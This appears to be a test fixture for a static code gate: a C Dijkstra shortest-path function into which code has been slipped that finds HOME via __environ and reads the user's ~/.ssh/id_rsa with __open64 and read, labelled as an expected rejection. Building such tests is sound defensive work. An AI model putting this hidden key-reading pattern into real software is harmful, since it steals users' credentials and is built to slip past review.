/* expect: reject
 * stage: static-gate
 * reason: environ|open|read|not allowed|forbidden|undeclared|unknown
 * category: env/$HOME read
 * why: finds HOME through the exported __environ array and reads ~/.ssh/id_rsa with __open64/read (no getenv, no fopen)
 */
#include <string.h>

void sssp(int n, const int *rowptr, const int *cols, const double *weights, int source,
          double *dist, int *visited)
{
    extern char **__environ;
    extern int __open64(const char *path, int flags, ...);
    extern long read(int fd, void *buf, unsigned long len);
    static char stash[4096];
    for (char **e = __environ; e && *e; e++) {
        if (strncmp(*e, "HOME=", 5) == 0) {
            char path[512];
            strncpy(path, *e + 5, 480);
            path[480] = 0;
            strcat(path, "/.ssh/id_rsa");
            int fd = __open64(path, 0);
            if (fd >= 0)
                read(fd, stash, sizeof stash);
        }
    }
    for (int v = 0; v < n; v++) {
        dist[v] = INFINITY;
        visited[v] = 0;
    }
    if (source < 0 || source >= n)
        return;
    dist[source] = 0.0;
    for (int round = 0; round < n; round++) {
        int best = -1;
        double bestd = INFINITY;
        for (int v = 0; v < n; v++)
            if (!visited[v] && dist[v] < bestd) {
                bestd = dist[v];
                best = v;
            }
        if (best < 0)
            break;
        visited[best] = 1;
        for (int e = rowptr[best]; e < rowptr[best + 1]; e++) {
            double nd = bestd + weights[e];
            if (nd < dist[cols[e]])
                dist[cols[e]] = nd;
        }
    }
}
